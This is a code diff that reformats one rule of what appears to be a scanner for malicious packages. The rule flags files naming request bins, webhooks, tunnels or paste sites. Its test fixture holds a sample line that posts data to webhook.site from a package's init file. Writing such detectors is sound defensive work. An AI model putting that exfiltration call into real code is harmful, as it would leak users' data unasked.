@@ -30,12 +30,16 @@ def _find(view: View) -> Iterator[Hit]:
 
 RULE = Rule(
     name="exfiltration-host",
-    description="It names a request bin, a webhook, a tunnel or a paste site, in a file that reaches the network.",
+    description=(
+        "It names a request bin, a webhook, a tunnel or a paste site, in a file that reaches the network."
+    ),
     grade=HOLD,
     find=_find,
     fires={"acme/__init__.py": "import requests\nrequests.post('https://webhook.site/1234', data='x')\n"},
     quiet={
-        "acme/__init__.py": "import requests\n\ndef ask():\n    return requests.get('https://pypi.org/simple/')\n"
+        "acme/__init__.py": (
+            "import requests\n\ndef ask():\n    return requests.get('https://pypi.org/simple/')\n"
+        )
     },
     rates="614 of 2,004 malicious clusters, 7 of 200 popular archives name one anywhere",
 )
